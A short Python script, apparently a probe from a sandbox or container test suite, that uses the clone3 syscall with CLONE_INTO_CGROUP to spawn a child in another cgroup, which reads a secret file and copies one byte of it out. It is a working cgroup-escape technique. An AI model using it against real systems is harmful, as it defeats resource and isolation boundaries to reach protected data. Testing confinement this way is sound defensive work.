"""Escape attack: start a child in another cgroup with clone3(CLONE_INTO_CGROUP).

Usage: clone_into_cgroup.py CGROUP_DIR SECRET OUT
The child reads SECRET and writes OUT from the cgroup CGROUP_DIR; the parent
waits for it and exits with its status.
"""

from __future__ import annotations

import ctypes
import os
import signal
import sys

SYS_CLONE3 = 435
CLONE_INTO_CGROUP = 0x200000000


class CloneArgs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in (
        "flags", "pidfd", "child_tid", "parent_tid", "exit_signal", "stack", "stack_size",
        "tls", "set_tid", "set_tid_size", "cgroup")]


def main() -> int:
    cgroup_dir, secret, out = sys.argv[1:4]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    fd = os.open(cgroup_dir, os.O_RDONLY | os.O_DIRECTORY)
    args = CloneArgs(flags=CLONE_INTO_CGROUP, exit_signal=signal.SIGCHLD, cgroup=fd)
    pid = libc.syscall(SYS_CLONE3, ctypes.byref(args), ctypes.c_size_t(ctypes.sizeof(args)))
    if pid < 0:
        print(f"clone3: {os.strerror(ctypes.get_errno())}", file=sys.stderr)
        return 1
    if pid == 0:
        with open(secret, "rb") as f:
            data = f.read()
        with open(out, "wb") as f:
            f.write(data[:1])
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


if __name__ == "__main__":
    sys.exit(main())
